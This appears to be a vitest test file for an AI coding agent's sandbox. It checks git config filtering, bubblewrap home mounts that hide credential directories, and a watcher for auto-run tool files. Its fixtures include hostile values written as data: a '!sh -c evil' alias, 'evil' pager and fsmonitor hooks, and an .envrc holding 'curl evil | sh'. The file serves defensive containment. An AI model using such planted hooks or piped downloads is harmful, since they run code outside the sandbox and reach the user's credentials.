/**
 * The agent's own home, in pieces: the git config filter (through git's own parser), the read
 * list and its mount points on disk, and where bubblewrap's mounts go.
 */
import { execFileSync } from 'node:child_process';
import { lstatSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { agentHome, filterGitConfig, filteredGitConfig } from '../../src/main/sandbox/agent-home.js';
import { bwrapArgs } from '../../src/main/sandbox/bwrap.js';
import type { SandboxSpec } from '../../src/main/sandbox/types.js';

const root = mkdtempSync(join(tmpdir(), 'tandem-home-unit-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));

describe('the git config an agent gets', () => {
  it('keeps who the person is and plain aliases; drops credentials, programs and includes', () => {
    const file = join(root, 'gitconfig');
    writeFileSync(
      file,
      [
        '[user]\n\tname = "Ada \\"The\\" Person"\n\temail = ada@example.com',
        '[credential "https://example.com"]\n\thelper = store',
        '[url "https://tok@github.com/"]\n\tinsteadOf = https://github.com/',
        '[core]\n\tsshCommand = ssh -i key\n\tpager = evil\n\tfsmonitor = evil\n\thooksPath = /tmp/h\n\teditor = evil\n\tautocrlf = input',
        '[diff "x"]\n\ttextconv = evil\n[diff]\n\texternal = evil\n[filter "lfs"]\n\tclean = evil',
        '[alias]\n\tco = checkout\n\tpwn = "!sh -c evil"',
        '[include]\n\tpath = other\n[includeIf "gitdir:/x/"]\n\tpath = other',
        '[init]\n\ttemplateDir = /tmp/t\n\tdefaultBranch = main',
        '[color "diff"]\n\tmeta = yellow',
        '',
      ].join('\n'),
    );
    const out = join(root, 'filtered');
    writeFileSync(out, filteredGitConfig(file));
    const listed = execFileSync('git', ['config', '--file', out, '--list'], { encoding: 'utf8' }).trim().split('\n');
    expect(listed.sort()).toEqual(
      [
        'alias.co=checkout',
        'color.diff.meta=yellow',
        'core.autocrlf=input',
        'init.defaultbranch=main',
        'user.email=ada@example.com',
        'user.name=Ada "The" Person',
      ].sort(),
    );
  });

  it('writes values git reads back exactly', () => {
    const text = filterGitConfig('user.name\nline\\one\t"two"\0alias.x\n!no\0alias.y\nlog --oneline\0');
    const out = join(root, 'exact');
    writeFileSync(out, text);
    expect(execFileSync('git', ['config', '--file', out, 'user.name'], { encoding: 'utf8' })).toBe('line\\one\t"two"\n');
    expect(execFileSync('git', ['config', '--file', out, 'alias.y'], { encoding: 'utf8' })).toBe('log --oneline\n');
    expect(text).not.toContain('!no');
  });
});

describe('the read list', () => {
  it('shows toolchains and startup files, not the rest, and makes mount points without following symlinks', () => {
    const home = join(root, 'home');
    for (const dir of ['.cargo/bin', '.pyenv/shims', '.config/rclone', '.local/bin']) mkdirSync(join(home, dir), { recursive: true });
    for (const file of ['.bashrc', '.pgpass', '.config/rclone/rclone.conf', '.cargo/credentials.toml']) writeFileSync(join(home, file), 'x');
    const agentDir = join(root, 'agent');
    // A symlink the agent left where a mount point goes: removed, not followed.
    mkdirSync(join(agentDir, 'home', '.cargo'), { recursive: true });
    symlinkSync('/etc', join(agentDir, 'home', '.cargo', 'bin'));
    const built = agentHome({ home, agentDir, extra: ['~/.config/rclone/rclone.conf', '/etc/passwd', 'relative'] });
    expect(built.read.map((entry) => entry.dest.slice(home.length + 1)).sort()).toEqual(
      ['.bashrc', '.cargo/bin', '.config/rclone/rclone.conf', '.local/bin', '.pyenv'].sort(),
    );
    expect(built.writable.map((entry) => entry.dest)).toEqual([join(home, '.pyenv/shims')]);
    expect(lstatSync(join(built.agentHome, '.cargo', 'bin')).isDirectory()).toBe(true);
    expect(lstatSync(join(built.agentHome, '.bashrc')).isFile()).toBe(true);
  });
});

describe('bubblewrap mounts of the agent home', () => {
  const spec: SandboxSpec = {
    mode: 'workspace-write',
    network: false,
    workspace: '/home/ada/proj',
    tmpDir: '/home/ada/.config/Tandem/sandbox/run/t1/tmp',
    writable: [],
    readable: ['/tmp/tandem-rc-x'],
    hidden: [
      { path: '/home/ada/.config/Tandem', dir: true },
      { path: '/home/ada/.ssh', dir: true },
      { path: '/home/ada/.config/gh', dir: true },
    ],
    protectedPaths: [],
    home: {
      path: '/home/ada',
      agentHome: '/home/ada/.config/Tandem/sandbox/a/home',
      read: [
        { source: '/home/ada/.cargo/bin', dest: '/home/ada/.cargo/bin', dir: true },
        { source: '/home/ada/.config', dest: '/home/ada/.config', dir: true },
      ],
      writable: [],
    },
  };
  const args = bwrapArgs({ spec, pty: '/dev/pts/7', infoFd: 3, seccompFd: 4, unsetEnv: [], setEnv: {}, command: ['/bin/bash'] });
  const at = (...seq: string[]) => args.findIndex((_, i) => seq.every((value, j) => args[i + j] === value));

  it('empties the home before the workspace inside it, then shows the read list at both places', () => {
    expect(at('--tmpfs', '/home/ada')).toBeGreaterThan(-1);
    expect(at('--tmpfs', '/home/ada')).toBeLessThan(at('--bind', '/home/ada/proj', '/home/ada/proj'));
    expect(at('--ro-bind', '/home/ada/.cargo/bin', '/home/ada/.cargo/bin')).toBeGreaterThan(at('--bind', '/home/ada/proj', '/home/ada/proj'));
    expect(at('--ro-bind', '/home/ada/.cargo/bin', '/home/ada/.config/Tandem/sandbox/a/home/.cargo/bin')).toBeGreaterThan(-1);
    expect(at('--remount-ro', '/home/ada')).toBeGreaterThan(-1);
    // ~/.ssh lies in the emptied home: no mount needed.
    expect(at('--tmpfs', '/home/ada/.ssh')).toBe(-1);
  });

  it('binds the agent home after Tandem’s state is hidden, and hides inside a read entry at both places', () => {
    expect(at('--bind', spec.home!.agentHome, spec.home!.agentHome)).toBeGreaterThan(at('--tmpfs', '/home/ada/.config/Tandem'));
    expect(at('--tmpfs', '/home/ada/.config/gh')).toBeGreaterThan(at('--ro-bind', '/home/ada/.config', '/home/ada/.config'));
    expect(at('--tmpfs', '/home/ada/.config/Tandem/sandbox/a/home/.config/gh')).toBeGreaterThan(
      at('--ro-bind', '/home/ada/.config', '/home/ada/.config/Tandem/sandbox/a/home/.config'),
    );
  });
});

describe('files the person’s tools run on their own', () => {
  it('reports each change to .envrc, .vscode/ and .idea/ once, and not a Makefile', async () => {
    const { ToolFilesWatch } = await import('../../src/main/sandbox/tool-files.js');
    const ws = join(root, 'ws-tools');
    mkdirSync(join(ws, '.vscode'), { recursive: true });
    writeFileSync(join(ws, '.vscode', 'settings.json'), '{}');
    const watch = new ToolFilesWatch(ws);
    expect(watch.changes()).toEqual([]);
    writeFileSync(join(ws, '.envrc'), 'curl evil | sh');
    writeFileSync(join(ws, '.vscode', 'tasks.json'), '{"runOn":"folderOpen"}');
    mkdirSync(join(ws, '.idea', 'runConfigurations'), { recursive: true });
    writeFileSync(join(ws, '.idea', 'runConfigurations', 'x.xml'), '<x/>');
    writeFileSync(join(ws, 'Makefile'), 'all:\n');
    expect(watch.changes()).toEqual(['.envrc', '.idea/runConfigurations/x.xml', '.vscode/tasks.json']);
    expect(watch.changes()).toEqual([]);
    rmSync(join(ws, '.vscode', 'settings.json'));
    expect(watch.changes()).toEqual(['.vscode/settings.json']);
    // yarn's release and plugins and Plug'n'Play's loader run when the person runs yarn or node (round 13).
    mkdirSync(join(ws, '.yarn', 'releases'), { recursive: true });
    writeFileSync(join(ws, '.yarn', 'releases', 'yarn-4.0.0.cjs'), 'require("child_process")');
    writeFileSync(join(ws, '.pnp.cjs'), 'module.exports = {}');
    expect(watch.changes()).toEqual(['.pnp.cjs', '.yarn/releases/yarn-4.0.0.cjs']);
  });
});
